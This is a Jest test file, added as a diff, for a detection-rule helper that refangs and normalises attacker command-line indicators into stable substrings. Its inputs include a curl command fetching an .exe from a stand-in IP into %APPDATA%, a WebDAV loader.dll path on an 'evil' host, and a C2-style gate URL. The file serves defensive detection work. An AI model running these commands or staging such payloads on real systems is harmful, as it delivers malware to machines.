@@ -1,0 +1,22 @@
+import { asExecuted, stableParts } from './command-values';
+
+describe('command-line values a rule can keep', () => {
+  it('refangs indicators and undoubles a batch file\'s %%VAR%%', () => {
+    expect(asExecuted('curl hxxp://203.0.113[.]5/a -o %%APPDATA%%\\a.exe')).toBe('curl http://203.0.113.5/a -o %APPDATA%\\a.exe');
+  });
+
+  it('cuts out the intrusion\'s hosts, placeholders, user folders, secrets and made-up file names', () => {
+    expect(stableParts('http://203.0.113.5:8080/gate/panel.php')).toEqual(['http://', '/gate/panel.php']);
+    expect(stableParts('\\\\files.evil.example@SSL\\DavWWWRoot\\loader.dll')).toEqual(['\\DavWWWRoot\\loader.dll']);
+    expect(stableParts('C:\\Users\\{REDACTED}\\AppData\\Roaming\\svc.exe')).toEqual(['\\AppData\\Roaming\\svc.exe']);
+    expect(stableParts('C:\\Users\\alice\\AppData\\Local\\Temp\\x.ps1')).toEqual(['\\AppData\\Local\\Temp\\']);
+    expect(stableParts('C:\\Users\\Public\\lib.dll')).toEqual(['C:\\Users\\Public\\lib.dll']);
+    expect(stableParts('%USERPROFILE%\\Downloads\\invoice_48213.msi')).toEqual(['\\Downloads\\']);
+    expect(stableParts('/agent?token=c98348aa5479df05dae407a4c8771f66')).toEqual(['/agent?token=']);
+    expect(stableParts('\\\\<backup server>\\share')).toEqual(['\\share']);
+  });
+
+  it('leaves out a value longer than 120 characters', () => {
+    expect(stableParts(`C:\\${'d'.repeat(130)}`)).toEqual([]);
+  });
+});
